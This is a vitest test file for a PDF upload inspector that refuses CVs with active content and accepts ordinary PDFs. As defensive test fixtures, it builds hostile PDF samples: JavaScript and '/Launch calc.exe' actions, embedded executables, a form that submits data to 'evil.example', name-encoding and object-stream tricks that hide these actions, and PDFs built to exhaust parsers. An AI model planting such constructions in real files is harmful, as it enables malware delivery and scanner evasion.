import { createCipheriv, createDecipheriv } from 'node:crypto'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { failChecks } from '../../../tests/support/fail-checks.ts'
import {
  encryptedPdf,
  handmadePdf,
  onePage,
  pdfStream,
  samplePdf,
} from '../../../tests/support/sample-files.ts'
import { inspectPdf } from './inspect-pdf.ts'
import { findActiveContent } from './inspect-pdf-actions.ts'
import { defineForPdfjs } from './inspect-pdf-engine.ts'
import { CheckFault } from './inspect-problem.ts'
import { inspectUpload } from './inspect-upload.ts'

let folder: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'inspect-pdf-'))
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

function fileOf(content: Buffer): string {
  const path = join(folder, 'file')
  writeFileSync(path, content)
  return path
}
const inspect = (content: Buffer) => inspectUpload(fileOf(content), 'cv', 'cv.pdf')
const refused = (code: string, values = {}) => ({ problem: { code, values: { name: 'cv.pdf', ...values } } })
const isPdf = { type: 'pdf' }

const objectStreamKeys = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'
const objectStream = (object: string) =>
  pdfStream(objectStreamKeys, deflateSync(Buffer.from(`9 0 ${object}`)))
/** Creates a PDF with an object stream that opens without a password and is encrypted as the version does it. */
const encryptedStream = (pdfVersion: '1.3' | '1.4' | '1.6' | '1.7ext3', object: string) =>
  samplePdf({ ownerPassword: 'secret', pdfVersion }, (document) =>
    document.ref({ Type: 'ObjStm', N: 1, First: 4 }).end(Buffer.from(`9 0 ${object}`)),
  )
/** The key of the document of revision 6; its entry `Perms` is readable with it. */
const revision6Key = Buffer.from('ed3376884619683a979f120ec72c1bf4c1f7f4e58f1579608437a4f14022ea6d', 'hex')
/** Puts an object stream into the document of revision 6. */
function encryptedBySix(object: string): Buffer {
  const cipher = createCipheriv('aes-256-cbc', revision6Key, Buffer.alloc(16, 7))
  const packed = deflateSync(Buffer.from(`9 0 ${object}`))
  const encrypted = Buffer.concat([Buffer.alloc(16, 7), cipher.update(packed), cipher.final()])
  const document = encryptedPdf('owner-password-aes256')
  const stream = Buffer.concat([
    Buffer.from('9 0 obj\n'),
    pdfStream(objectStreamKeys, encrypted),
    Buffer.from('\nendobj\n'),
  ])
  const table = document.lastIndexOf('xref\n0')
  const moved = document
    .subarray(table)
    .toString('latin1')
    .replace(`startxref\n${table}`, `startxref\n${table + stream.length}`)
  return Buffer.concat([document.subarray(0, table), stream, Buffer.from(moved, 'latin1')])
}
const link = (action: string) => `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`

/** Points to an entry of an outline instead, which has a `/Prev` of another meaning. */
function misplacedTable(): Buffer {
  const entry = (other: number) => `<< /Title (a) /Parent 4 0 R /Prev ${other} 0 R >>`
  const content = handmadePdf([
    ...onePage('/Outlines 4 0 R'),
    '<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>',
    entry(6),
    entry(5),
  ])
  const digits = String(content.lastIndexOf('xref\n0'))
  const at = content.lastIndexOf(digits)
  content.write(String(content.indexOf('5 0 obj')).padStart(digits.length, '0'), at)
  return content
}

/** Creates a PDF as browsers print pages with anchors: each a key among the destinations, and the name of a link's. */
function destinationsNamed(names: string[]): Buffer {
  const destinations = names.map((name, index) => `/${name} ${index % 2 ? '4 0 R' : '[3 0 R /XYZ 0 792 0]'}`)
  const swapped = names.map((name, index) => `/${name} ${index % 2 ? '[3 0 R /Fit]' : '4 0 R'}`)
  const links = names.map((name) => `<< /Subtype /Link /Rect [0 0 9 9] /Dest /${name} >>`)
  return handmadePdf([
    ...onePage(
      `/Dests << ${destinations.join(' ')} >> /Other << ${swapped.join(' ')} >>`,
      `/Annots [${links.join(' ')}]`,
    ),
    '[3 0 R /XYZ 0 100 null]',
  ])
}

function speakingPdf(): Buffer {
  const words = 'C/S /JavaScript, S /Launch, /JS \\(XFA\\) /EF << /RichMedia'
  return handmadePdf([
    ...onePage('/Outlines 4 0 R', '/Contents 6 0 R /Resources << /Font << /JS 7 0 R /XFA 7 0 R >> >>'),
    '<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>',
    `<< /Title (${words}) /Parent 4 0 R /Dest [3 0 R /Fit] >>`,
    pdfStream('', Buffer.from(`BT /JS 9 Tf (${words}) Tj /S /JavaScript ET`)),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Title (${words}) /Keywords (JavaScript) /Subject <${Buffer.from(words).toString('hex')}> >>`,
  ])
}

/** Creates object streams that some readers open, though no writer packs objects in this way. */
function hiddenStreams(object: string): [string, Buffer][] {
  const objects = Buffer.from(`9 0 ${object}`)
  const [keys, packed] = ['/Type /ObjStm /N 1 /First 4', deflateSync(objects)]
  const hex = Buffer.from(`${packed.toString('hex')}>`)
  const inString = `9 1 (${object})`
  return [
    ['an object stream that is not packed', pdfStream(keys, objects)],
    [
      'an object stream that is packed twice',
      pdfStream(`${keys} /Filter [/ASCIIHexDecode /FlateDecode]`, hex),
    ],
    ['an object stream that is packed twice, in short words', pdfStream(`${keys} /F [/AHx /Fl]`, hex)],
    [
      'an object stream of another filter',
      pdfStream(`${keys} /Filter /ASCIIHexDecode`, Buffer.from(`${objects.toString('hex')}>`)),
    ],
    [
      'an object stream with a predictor',
      pdfStream(`${keys} /Filter /FlateDecode /DecodeParms << /Predictor 12 >>`, packed),
    ],
    ['an object stream whose filter stands elsewhere', pdfStream(`${keys} /Filter 6 0 R`, packed)],
    [
      'an object stream of two filters',
      pdfStream(`${keys} /Filter /ASCIIHexDecode /Filter /FlateDecode`, packed),
    ],
    ['an object stream whose begin stands elsewhere', pdfStream('/Type /ObjStm /N 1 /First 7 0 R', objects)],
    [
      'an object stream whose type stands elsewhere',
      pdfStream('/Type 5 0 R /N 1 /First 4 /Filter /FlateDecode', packed),
    ],
    ['an object stream without its type', pdfStream('/N 1 /First 4 /Filter /FlateDecode', packed)],
    ['a string within an object stream', pdfStream(objectStreamKeys, deflateSync(Buffer.from(inString)))],
    [
      'what follows a word in an object stream',
      pdfStream(
        objectStreamKeys,
        deflateSync(
          Buffer.concat([Buffer.from('9 99 << /A (endstream) >>'.padEnd(103, ' ')), Buffer.from(object)]),
          { level: 0 },
        ),
      ),
    ],
    [
      'an object stream that is cut off',
      pdfStream(
        objectStreamKeys,
        deflateSync(Buffer.concat([Buffer.from('9 99 << /A (b) >>'.padEnd(103, ' ')), Buffer.from(object)]), {
          level: 0,
        }).subarray(0, 60),
      ),
    ],
  ]
}

const europassData =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Candidate xmlns="http://www.europass.eu/1.0" xmlns:hr="http://www.hr-xml.org/3"><hr:FirstName>Aziza</hr:FirstName></Candidate>'

describe('the builds of pdf.js', () => {
  const builtIns =
    /(?<![\w$.])(Array|ArrayBuffer|Atomics|BigInt|Date|Error|Intl|Iterator|JSON|Map|Math|Number|Object|Promise|Reflect|RegExp|Set|String|Symbol|Uint8Array|WeakMap)\.([a-z]\w+)/g
  it.each(['pdf.min.mjs', 'pdf.worker.min.mjs'])('need nothing that is not defined here: %s', (name) => {
    defineForPdfjs()
    const source = readFileSync(fileURLToPath(import.meta.resolve(`pdfjs-dist/build/${name}`)), 'latin1')
    const used = [...source.matchAll(builtIns)].map(([, object = '', member = '']) => ({ object, member }))
    expect(used.length).toBeGreaterThan(50)
    const missing = used.filter(({ object, member }) => !(member in Reflect.get(globalThis, object)))
    expect(missing).toEqual([])
  })
})

describe('ordinary PDFs', () => {
  it.each<readonly [string, Promise<Buffer> | Buffer]>([
    ['of pdfkit', samplePdf()],
    [
      'with an outline and links',
      samplePdf({}, (document) => {
        document.text('a site', { link: 'https://example.uz/S/LaunchPad' }).addPage().text('mail')
        document.outline.addItem('first')
      }),
    ],
    [
      'that may not be printed but may be read',
      samplePdf({ ownerPassword: 'secret', pdfVersion: '1.7ext3' }),
    ],
    ['that may be read and not changed, by AES-256', encryptedPdf('owner-password-aes256')],
    ['written by hand', handmadePdf(onePage())],
    [
      'with a link that only sounds like a program',
      handmadePdf(onePage('', link('<< /S /URI /URI (https://e.uz/Launch) >>'))),
    ],
    ...(['1.3', '1.4', '1.6', '1.7ext3'] as const).map(
      (version) =>
        [`with an encrypted object stream: ${version}`, encryptedStream(version, '<< /A (b) >>')] as const,
    ),
    ['with an encrypted object stream of revision 6', encryptedBySix('<< /A (b) >>')],
    [
      'with an object stream that is not packed',
      handmadePdf([...onePage(), pdfStream('/Type /ObjStm /N 1 /First 4', Buffer.from('9 0 << >>'))]),
    ],
    [
      'with destinations that have the names of what is active',
      destinationsNamed(['JavaScript', 'Launch', 'JS', 'XFA', 'RichMedia', 'EmbeddedFile']),
    ],
    ['that speaks of JavaScript in its titles, text and keywords', speakingPdf()],
    ['behind a byte order mark', Buffer.concat([Buffer.from('\ufeff\n'), handmadePdf(onePage())])],
    ['whose table is not where it says', misplacedTable()],
    [
      'with what a mail server leaves behind it',
      Buffer.concat([handmadePdf(onePage()), Buffer.alloc(1000, '\r\n')]),
    ],
    [
      'of Europass, which carries its data as XML',
      samplePdf({}, (document) => {
        document.file(Buffer.from(europassData), { name: 'attachment.xml' })
      }),
    ],
    [
      'of 200 pages',
      samplePdf({}, (document) => {
        for (let page = 1; page < 200; page += 1) document.addPage()
      }),
    ],
  ])('%s', async (_what, content) => {
    expect(await inspect(await content)).toEqual(isPdf)
  })
})

describe('PDFs with something active inside', () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
  const program = '<< /Type /Action /S /Launch /F (calc.exe) >>'
  it.each<readonly [string, Promise<Buffer> | Buffer]>([
    ['a script on opening', handmadePdf(onePage(`/OpenAction ${script}`))],
    [
      'a script among the names',
      handmadePdf(onePage(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)),
    ],
    [
      'a script whose kind stands elsewhere',
      handmadePdf([...onePage('/OpenAction << /S 4 0 R /JS (app.alert\\(1\\)) >>'), '/JavaScript']),
    ],
    ['a script behind a link', handmadePdf(onePage('', link(script)))],
    ['a program on opening', handmadePdf(onePage(`/OpenAction ${program}`))],
    ['a program behind a link', handmadePdf(onePage('', link(program)))],
    [
      'a program with hidden letters',
      handmadePdf(onePage('', link('<< /S%x\n/L#61unc#68 /F (calc.exe) >>'))),
    ],
    ['a program in an object stream', handmadePdf([...onePage(), objectStream(program)])],
    [
      'a program in an object stream with hidden letters',
      handmadePdf([
        ...onePage(),
        Buffer.from(objectStream(program).toString('latin1').replace('/ObjStm', '/Obj#53tm'), 'latin1'),
      ]),
    ],
    ...(['1.3', '1.4', '1.6', '1.7ext3'] as const).map(
      (version) =>
        [`a program in an encrypted object stream: ${version}`, encryptedStream(version, program)] as const,
    ),
    ['a program in an encrypted object stream of revision 6', encryptedBySix(program)],
    ...hiddenStreams(program).map(
      ([what, stream]) =>
        [
          `a program in ${what}`,
          handmadePdf([...onePage(), stream, '/ObjStm', '/FlateDecode', '4']),
        ] as const,
    ),
    [
      'a program whose kind stands elsewhere',
      handmadePdf([...onePage('', link('<< /S 4 0 R /F (calc.exe) >>')), '/Laun#63h']),
    ],
    [
      'a program whose kind stands in an object stream',
      handmadePdf([...onePage('', link('<< /S 9 0 R /F (calc.exe) >>')), objectStream('/Launch')]),
    ],
    [
      'a program in the catalog of a trailer',
      handmadePdf(onePage(), `/Root << /Pages 2 0 R /OpenAction ${program} >>`),
    ],
    [
      'a script behind a link whose kind and text stand elsewhere',
      handmadePdf([...onePage('', link('<< /S 4 0 R /JS 5 0 R >>')), '/JavaScript', '(app.alert\\(1\\))']),
    ],
    [
      'a script with an action that shows a film',
      handmadePdf(onePage('', link('<< /S /Rendition /JS (app.alert\\(1\\)) >>'))),
    ],
    [
      'such a script as a stream',
      handmadePdf([
        ...onePage('', link('<< /S /Rendition /JS 4 0 R >>')),
        pdfStream('', Buffer.from('app.alert(1)')),
      ]),
    ],
    [
      'a form in XML',
      handmadePdf([
        ...onePage('/AcroForm << /Fields [] /XFA 4 0 R >>'),
        pdfStream('', Buffer.from('<xdp/>')),
      ]),
    ],
    [
      'a form in parts of XML',
      handmadePdf([
        ...onePage('/AcroForm << /Fields [] /XFA [(form) 4 0 R] >>'),
        pdfStream('', Buffer.from('<xdp/>')),
      ]),
    ],
    [
      'a form whose list stands elsewhere',
      handmadePdf([
        ...onePage('/AcroForm << /Fields [] /XFA 5 0 R >>'),
        pdfStream('', Buffer.from('<xdp/>')),
        '[6 0 R 4 0 R]',
        '(form)',
      ]),
    ],
    ...['/SubmitForm /F (https://evil.example)', '/ImportData /F (x.fdf)'].map(
      (action) =>
        [
          `a form that exchanges data: ${action}`,
          handmadePdf(onePage('', link(`<< /S ${action} >>`))),
        ] as const,
    ),
    [
      'a model with a script',
      handmadePdf([
        ...onePage('', '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 4 0 R >>]'),
        pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 5 0 R', Buffer.from('model')),
        pdfStream('', Buffer.from('app.alert(1)')),
      ]),
    ],
    ['media with scripts', handmadePdf(onePage('', '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]'))],
    [
      'media whose kind stands elsewhere',
      handmadePdf([...onePage('', '/Annots [<< /Subtype 4 0 R /Rect [0 0 9 9] >>]'), '/RichMedia']),
    ],
    [
      'a file that no list names',
      handmadePdf([
        ...onePage('/AF [4 0 R]'),
        '<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>',
        pdfStream('', Buffer.from('MZ program')),
      ]),
    ],
    [
      'a file of its kind alone',
      handmadePdf([...onePage('/A 4 0 R'), pdfStream('/Type /EmbeddedFile', Buffer.from('MZ program'))]),
    ],
    [
      'a file whose kind stands elsewhere',
      handmadePdf([
        ...onePage('/A 4 0 R'),
        pdfStream('/Type 5 0 R', Buffer.from('MZ program')),
        '/EmbeddedFile',
      ]),
    ],
    [
      'a program behind a megabyte of text',
      handmadePdf([
        `<< /Type /Catalog /Pages 2 0 R /A (${'x'.repeat(1_048_500)}) /OpenAction ${program} >>`,
        ...onePage().slice(1),
      ]),
    ],
    [
      'another file',
      samplePdf({}, (document) => document.file(Buffer.from('MZ program'), { name: 'setup.exe' })),
    ],
    [
      'a page that is called XML',
      samplePdf({}, (document) => document.file(Buffer.from('<html><script/></html>'), { name: 'a.xml' })),
    ],
    [
      'a page within the data of Europass',
      samplePdf({}, (document) =>
        document.file(
          Buffer.from(europassData.replace('http://www.hr-xml.org/3', 'http://www.w3.org/1999/xhtml')),
          { name: 'attachment.xml' },
        ),
      ),
    ],
    [
      'data of Europass that declares entities',
      samplePdf({}, (document) =>
        document.file(Buffer.from(europassData.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>')), {
          name: 'attachment.xml',
        }),
      ),
    ],
    [
      'a program that is called XML',
      samplePdf({}, (document) => document.file(Buffer.from('MZ program'), { name: 'a.xml' })),
    ],
    [
      'another file as a note',
      handmadePdf([
        ...onePage('', '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]'),
        '<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>',
        pdfStream('/Type /EmbeddedFile', Buffer.from('MZ program')),
      ]),
    ],
  ])('%s', async (_what, content) => {
    expect(await inspect(await content)).toEqual(refused('file-active-content'))
  })
})

describe('the key of the document of revision 6', () => {
  it('reads what is encrypted by it', () => {
    const permissions = /\/Perms <(\w+)>/.exec(encryptedPdf('owner-password-aes256').toString('latin1'))?.[1]
    const decipher = createDecipheriv('aes-256-ecb', revision6Key, null).setAutoPadding(false)
    expect(decipher.update(permissions ?? '', 'hex').toString('latin1', 9, 12)).toBe('adb')
  })
})

const isActive = async (content: Buffer) => (await findActiveContent(content)).isActive

describe('actions', () => {
  it('are found wherever they stand', async () => {
    const [mebibyte, action] = [1024 * 1024, Buffer.from('/S /Launch ')]
    for (let before = 0; before <= action.length; before += 1) {
      const padding = Buffer.alloc(mebibyte - before, ' ')
      const content = Buffer.concat([Buffer.from('1 0 obj<<'), padding, action, Buffer.alloc(10, ' ')])
      expect(await isActive(content)).toBe(true)
    }
  })

  it.each([
    '/S /Launcher',
    '/S /Launch2',
    '/Launch /S',
    '(/Launch)',
    '/SS /Launch',
    '/#5 /Launch',
    '/#53#53 /Launch',
    '',
  ])('are not %j', async (text) => {
    expect(await isActive(Buffer.from(`1 0 obj << ${text} >> endobj`))).toBe(false)
  })
})

describe('the work of finding them', () => {
  const deflated = deflateSync(Buffer.from('9 0 << >>')).toString('latin1')
  const nested = deflateSync(Buffer.alloc(60_000, ' '), { level: 0 }).toString('latin1')
  it.each([
    `1 0 obj<<${objectStreamKeys}>>stream\n`,
    `1 0 obj<<${objectStreamKeys}>>stream\n${deflated}`,
    `1 0 obj<<${objectStreamKeys}>>stream\n${deflated} endstream `,
    `1 0 obj<<${objectStreamKeys}>>stream\n${nested.slice(0, 7)}`,
    `1 0 obj<</N 1/First 4>>stream\n9 0 <<`,
    '1 0 obj<</Filter/Standard/V 4/CF<</a<</CFM/AESV2>>>>/StmF/a>>',
    '1 0 obj',
    '1 0 obj(',
    '1 0 obj<<',
    '1 0 obj[/XFA[',
    'obj',
    'trailer<</Root/ID[(a)]',
    '<</XFA[',
    '/ObjStm',
    'stream endstream',
    '%/S\n',
    '/S%',
    '/S ',
    '/#53',
    '/#53 /#53#4',
    '/#4fbj#53t',
    '/S/Launc',
    '/',
  ])('grows as the content does, not faster: %j again and again', async (unit) => {
    const workOf = async (sizeBytes: number) => {
      const work = { bytes: 0 }
      const units = unit.repeat(Math.ceil(sizeBytes / unit.length))
      const content = Buffer.from(`1 0 obj[<<${units}`, 'latin1')
      const found = await findActiveContent(content, work).catch((error: Error) => error.name)
      expect(found === 'RangeError' || (typeof found === 'object' && !found.isActive)).toBe(true)
      return work.bytes
    }
    const [small, large] = [await workOf(100_000), await workOf(400_000)]
    expect(large).toBeLessThan(12 * 400_000)
    expect(large).toBeLessThan(4.5 * small)
  })

  it('is not done again for content that each of many names would unpack', async () => {
    const work = { bytes: 0 }
    const inner = Buffer.from(
      Array.from({ length: 500 }, () => `1 0 obj<<${objectStreamKeys}>>stream\n${nested.slice(0, 7)}`).join(
        '',
      ),
      'latin1',
    )
    const outcome = findActiveContent(Buffer.concat([inner, Buffer.alloc(100_000, 'x')]), work)
    await outcome.catch((error: Error) => expect(error).toBeInstanceOf(RangeError))
    expect(work.bytes).toBeLessThan(1_000_000)
  })

  it('finds an action in an object stream that is damaged at its end, or has a long dictionary', async () => {
    const packed = deflateSync(Buffer.from(`9 0 << /S /Launch >>${'x'.repeat(1000)}`))
    for (const content of [
      packed,
      packed.subarray(0, -6),
      Buffer.concat([packed.subarray(0, -4), Buffer.alloc(4)]),
    ]) {
      const stream = pdfStream(`${objectStreamKeys} /Note (${'obj '.repeat(1000)})`, content)
      expect(await isActive(Buffer.concat([Buffer.from('1 0 obj\n'), stream]))).toBe(true)
    }
  })
})

describe('PDFs that cannot be read', () => {
  const versions = ['1.3', '1.4', '1.6', '1.7', '1.7ext3'] as const
  const passwords = { userPassword: 'secret', ownerPassword: 'other' }
  it.each<[string, Buffer | Promise<Buffer>]>([
    ['AES-256, revision 6', encryptedPdf('user-password-aes256')],
    ...versions.map((pdfVersion): [string, Promise<Buffer>] => [
      pdfVersion,
      samplePdf({ ...passwords, pdfVersion }),
    ]),
  ])('are protected by a password: %s', async (_what, content) => {
    expect(await inspect(await content)).toEqual(refused('file-encrypted'))
  })

  it('has more pages than a CV has: 201, and 100,000', async () => {
    for (const count of [201, 100_000]) {
      const pages = Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>')
      const kids = pages.map((_page, index) => `${index + 3} 0 R`).join(' ')
      const content = handmadePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
        ...pages,
      ])
      expect(await inspect(content)).toEqual(refused('file-too-many-pages', { max: 200 }))
    }
  })

  const whole = handmadePdf(onePage())
  const twoTables = () => {
    const first = handmadePdf(onePage(), '/Prev 0000000000')
    first.write(String(first.length).padStart(10, '0'), first.indexOf('/Prev ') + 6)
    const second = `xref\n0 0\ntrailer\n<< /Size 4 /Root 1 0 R /Prev ${first.lastIndexOf('xref\n0')} >>\n`
    return Buffer.concat([first, Buffer.from(`${second}startxref\n${first.length}\n%%EOF\n`)])
  }
  const manyTables = () => {
    const tables = Array.from({ length: 2_000 }, (_table, index) => {
      const before = String(9 + Math.max(0, index - 1) * 60).padStart(10, '0')
      return `1 0 obj<</Type/XRef${index === 0 ? '/Last' : '/Prev'} ${before}>>stream\n`
        .padEnd(53, ' ')
        .concat('endobj\n')
    }).join('')
    return Buffer.from(`%PDF-1.7\n${tables}startxref\n${9 + 1_999 * 60}\n%%EOF\n`)
  }
  const withoutSecondPage = () => {
    const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>'
    const pages = '<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>'
    return handmadePdf(['<< /Type /Catalog /Pages 2 0 R >>', pages, page, '(a text)', page])
  }
  const streamTable = () => {
    const table = pdfStream('/Type /XRef /Size 5 /Root 1 0 R /W [1 2 1] /Prev 0000000000', Buffer.alloc(20))
    const content = handmadePdf([...onePage(), table])
    const at = content.indexOf('4 0 obj')
    content.write(String(at).padStart(10, '0'), content.indexOf('/Prev ') + 6)
    return Buffer.concat([content, Buffer.from(`startxref\n${at}\n%%EOF\n`)])
  }
  it.each<[string, Buffer]>([
    ['cut off', whole.subarray(0, whole.length - 40)],
    ['cut off before its last word', whole.subarray(0, whole.length - 7)],
    [
      'whole, without a word of where its table is',
      Buffer.from(whole.toString('latin1').replace('startxref', 'somewhere'), 'latin1'),
    ],
    ['a page that is none', withoutSecondPage()],
    ['cut off within the first object', whole.subarray(0, 30)],
    ['nothing but its first and last words', Buffer.from('%PDF-1.7\n%%EOF\n')],
    [
      'noise between its first and last words',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 0xa7), Buffer.from('%%EOF')]),
    ],
    ['without a catalog', handmadePdf(['null'])],
    [
      'without pages',
      handmadePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    ],
    [
      'pages that are their own parents',
      handmadePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 3 >>']),
    ],
    ['a table that leads to itself', handmadePdf(onePage(), '/Prev %OFFSET%')],
    ['two tables that lead to each other', twoTables()],
    ['tables without end', manyTables()],
    ['objects without end', Buffer.from(`%PDF-1.7\n${'1 0 obj<<'.repeat(60_000)}\n%%EOF\n`)],

    ['a table in a stream that leads to itself', streamTable()],
    [
      'more in its object streams than fits',
      handmadePdf([
        ...onePage(),
        pdfStream(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          deflateSync(Buffer.alloc(64 * 1024 * 1024, ' ')),
        ),
      ]),
    ],
  ])('%s', async (_what, content) => {
    expect(await inspect(content)).toEqual(refused('file-broken'))
  })
})

describe('the thread in which a PDF is read', () => {
  it.each([
    { timeoutMs: 0 },
    { processorMaxMs: 0, checkIntervalMs: 1 },
  ])('ends when its time is over: %j', async (bounds) => {
    const path = fileOf(await samplePdf())
    await expect(inspectPdf(path, bounds)).rejects.toMatchObject({
      problem: { code: 'file-broken' },
    })
    await expect(inspectPdf(path)).resolves.toBeUndefined()
  })

  it('ends when it takes more memory than it may', async () => {
    const path = fileOf(await samplePdf())
    const bounds = { memoryMaxBytes: 1024 * 1024, checkIntervalMs: 1 }
    await expect(inspectPdf(path, bounds)).rejects.toMatchObject({ problem: { code: 'file-broken' } })
  })

  it('is no verdict where it fails itself', async () => {
    const path = fileOf(await samplePdf())
    const failing = failChecks()
    await expect(inspectPdf(path)).rejects.toThrow(CheckFault)
    failing.end()
    await expect(inspectPdf(path)).resolves.toBeUndefined()
  })

  it('distinguishes a missing file from a broken one', async () => {
    await expect(inspectPdf(join(folder, 'gone'))).rejects.toThrow('ENOENT')
  })
})
